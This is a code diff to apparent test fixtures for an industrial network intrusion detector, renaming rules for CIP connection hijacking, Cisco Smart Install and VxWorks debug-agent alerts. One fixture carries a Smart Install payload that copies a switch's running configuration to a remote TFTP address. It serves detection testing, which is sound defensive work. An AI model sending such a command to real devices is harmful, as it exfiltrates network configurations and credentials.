@@ -128,7 +128,7 @@ export const proofs: readonly AlertProof[] = [
   ),
   withoutBaseline(
     'connection-of-another-ended',
-    { rule: 'connection-closed-by-another', technique: 'T0814' },
+    { rule: 'cip-connection-closed-by-other-client', technique: 'T0814' },
     [opened(0), closed({ at: THEN, client: attacker })],
     [opened(0), closed({ at: THEN })],
   ),
@@ -169,7 +169,7 @@ export const proofs: readonly AlertProof[] = [
   ),
   withoutBaseline(
     'switch-set-up-from-afar',
-    { rule: 'switch-set-up-remotely', technique: 'T0866' },
+    { rule: 'cisco-smart-install', technique: 'T0866' },
     [tcp(4786, [['client', smartInstall(8, 'copy system:running-config tftp://10.20.0.66/x')]])],
     [tcp(4786, [['client', text('GET / HTTP/1.1\r\nHost: x\r\n\r\n')]])],
   ),
@@ -180,8 +180,8 @@ export const proofs: readonly AlertProof[] = [
     [tcp(1099, remoteCall('java.rmi.registry.Registry'))],
   ),
   withoutBaseline(
-    'debug-agent-asked',
-    { rule: 'debug-agent-asked', technique: 'T0866' },
+    'vxworks-debug-agent',
+    { rule: 'vxworks-debug-agent', technique: 'T0866' },
     [debugging(1)],
     [
       udp(111, [
